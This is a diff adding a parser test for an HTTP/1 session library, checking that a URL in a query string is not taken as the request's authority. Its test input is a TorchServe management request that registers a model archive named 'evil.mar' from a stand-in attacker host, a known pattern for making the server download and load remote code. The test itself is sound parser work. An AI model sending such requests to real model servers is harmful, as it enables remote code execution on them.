@@ -1059,3 +1059,15 @@ def test_corpus_protocol_switches_keep_the_next_protocol(corpus_dir, name, proto
     upgraded_to, leftover = switched[0]
     assert upgraded_to == protocol
     assert leftover[S].startswith(to_server) and leftover[C].startswith(to_client)
+
+
+def test_url_in_the_query_is_not_an_absolute_form_target() -> None:
+    """`POST /models?url=http://evil/x.mar` must not make evil the request's authority."""
+    session = Http1Session()
+    events = session.receive_data(TO_SERVER, b"POST /models?url=http://198.51.100.7:8888/evil.mar HTTP/1.1\r\n"
+                                             b"Host: torchserve:8081\r\nContent-Length: 0\r\n\r\n", 1.0)
+    head = next(e for e in events if isinstance(e, HeadReceived))
+    assert head.message.authority == "torchserve:8081" and head.message.scheme == "http"
+    events = Http1Session().receive_data(TO_SERVER, b"GET http://bro.org/ HTTP/1.1\r\nHost: x\r\n\r\n", 1.0)
+    head = next(e for e in events if isinstance(e, HeadReceived))
+    assert head.message.authority == "bro.org"
